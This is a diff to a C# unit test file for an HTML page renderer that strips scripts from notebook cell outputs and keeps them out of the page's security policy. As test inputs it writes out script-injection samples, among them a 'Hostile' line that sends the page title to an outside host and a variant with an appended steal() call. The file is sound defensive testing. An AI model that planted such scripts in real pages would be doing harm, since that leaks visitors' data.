@@ -134,24 +134,45 @@ public sealed class HtmlPageTests : IDisposable
         Assert.DoesNotContain("onclick", output.InnerHtml);
         Assert.Empty(output.QuerySelectorAll("base, meta"));
         Assert.Equal("{\"a\":\"<b>\"}", output.QuerySelector("script.plot")!.TextContent);
-        Assert.Equal("draw();", output.QuerySelector("script:not([type])")!.TextContent);
+        Assert.Empty(output.QuerySelectorAll("script:not([type])"));
     }
 
     [Fact]
-    public void ToHtml_LibraryInSeveralOutputsAndNotebooks_IsInThePageOnce()
+    public void ToHtml_ScriptsOfOutputs_AreNeitherInThePageNorInItsPolicy()
     {
+        const string Hostile = "location='https://example.com/?'+document.title";
         JsonObject[] Cells() =>
-            [Executed("1", Data(("text/html", $"<style>.a{{}}</style><script>{s_library}</script>"))),
-                Executed("2",
-                    Data(("text/html",
-                        $"<style>.a{{}}</style><script>{s_library}</script><script>small()</script><script>small()</script>")))];
+            [Executed("1", Data(("text/html", $"<style>.a{{}}</style><script>{s_library}</script><script>{Hostile}</script>"))),
+                Executed("2", Data(("text/html", $"<style>.a{{}}</style><script type='speculationrules'>{{}}</script>"
+                    + "<script src='data:,x'></script>"
+                    + "<script type='module'>import 'https://example.com'</script><svg><script>draw()</script></svg><i>said</i>")))];
         var html = Page(null, Cells(), Cells());
-        Assert.Single(
-            Regex.Matches(html, "xxxxxxxxxx/*", RegexOptions.None)
-                .Where(match => html.IndexOf(s_library, StringComparison.Ordinal) <= match.Index).Take(1));
-        Assert.Equal(html.IndexOf(s_library, StringComparison.Ordinal), html.LastIndexOf(s_library, StringComparison.Ordinal));
-        Assert.Equal(4, Regex.Count(html, Regex.Escape("<script>small()</script>")));
+        var document = Parse(html);
+        Assert.Empty(document.QuerySelectorAll("div.output script"));
+        Assert.DoesNotContain("example.com", html, StringComparison.Ordinal);
+        Assert.DoesNotContain(s_library, html, StringComparison.Ordinal);
+        Assert.Single(Regex.Matches(document.QuerySelector("meta[http-equiv]")!.GetAttribute("content")!, "'sha256-"));
+        Assert.Equal(2, document.QuerySelectorAll("div.output i").Length);
         Assert.Equal(1, Regex.Count(html, Regex.Escape(".a{}")));
+    }
+
+    [Theory]
+    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"0123456789abcdef\",\"q1Y=\"]);", true)]
+    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"0123456789abcdef\",\"q1Y=\"]);steal()", false)]
+    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"0123456789abcdef\",\"q1Y\"+steal()]);", false)]
+    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"0123456789abcdef\",\"q1Y=\"]);\n", false)]
+    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"x\",\"q1Y=\"]);", false)]
+    public void ToHtml_DataOfAFigure_StaysInItsOneFormOnly(string script, bool stays) =>
+        Assert.Equal(stays, Parse(Page(Executed("1", Data(("text/html", $"<div></div><script>{script}</script>")))))
+            .QuerySelector("div.output script") is not null);
+
+    [Fact]
+    public void ToHtml_OutputDrawnByAForeignScript_IsItsStillPicture()
+    {
+        var document = Parse(Page(Executed("1", Data(("text/html", "<div id='plot'></div><script>draw()</script>"),
+            ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'/>"), ("text/plain", "a plot")))));
+        Assert.Equal("a plot", document.QuerySelector("div.output img")!.GetAttribute("alt"));
+        Assert.Null(document.QuerySelector("#plot"));
     }
 
     [Fact]
